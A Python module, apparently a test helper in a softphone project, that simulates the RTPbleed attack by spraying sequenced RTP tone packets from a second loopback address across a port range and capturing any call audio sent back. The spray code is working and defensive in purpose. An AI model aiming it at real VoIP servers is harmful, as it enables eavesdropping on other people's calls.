"""An RTP spray from another loopback address (127.0.0.2), as in the RTPbleed attack.

A thread sends one PCMA packet of a tone to every port of a range (RTP and RTCP ports both)
every 20 ms, each port its own in-sequence stream (what a careful attacker sends, so that a
probation on sequence numbers does not stop it either), and records everything that comes
back: an edge that latched to it would send it the call's audio. Bounded in time, stopped by
``stop()``; ``active`` can be switched on and off while it runs.
"""

from __future__ import annotations

import math
import socket
import struct
import threading
import time

from softphone.native.g711 import alaw_encode

ATTACKER = "127.0.0.2"


class RtpSpray:
    def __init__(self, ports: tuple[int, int], *, freq: float = 3000.0, seconds: float = 60.0,
                 active: bool = True, target: str = "127.0.0.1") -> None:
        self.ports = range(ports[0], ports[1] + 1)
        self.target = target
        self.seconds = seconds
        self.active = threading.Event()
        if active:
            self.active.set()
        pcm = b"".join(struct.pack("<h", int(8000 * math.sin(2 * math.pi * freq * i / 8000)))
                       for i in range(160))
        self.payload = alaw_encode(pcm)  # 20 ms of the tone, a whole number of periods
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((ATTACKER, 0))
        self.sock.settimeout(0.01)
        self.sent = 0
        self.received: list[tuple[bytes, tuple[str, int]]] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        start = time.monotonic()
        seq, ts, ssrc = 7000, 0, 0xA77AC4ED
        next_at = start
        while not self._stop.is_set() and time.monotonic() - start < self.seconds:
            if self.active.is_set():
                header = struct.pack("!BBHII", 0x80, 8, seq & 0xFFFF, ts & 0xFFFFFFFF, ssrc)
                for port in self.ports:
                    try:
                        self.sock.sendto(header + self.payload, (self.target, port))
                        self.sent += 1
                    except OSError:  # ICMP unreachable from an earlier send: keep going
                        pass
                seq, ts = seq + 1, ts + 160
            next_at += 0.02
            while time.monotonic() < next_at:  # read what comes back meanwhile
                try:
                    data, source = self.sock.recvfrom(2048)
                except (TimeoutError, BlockingIOError):
                    continue
                except OSError:
                    continue
                self.received.append((data, (source[0], source[1])))

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self.sock.close()
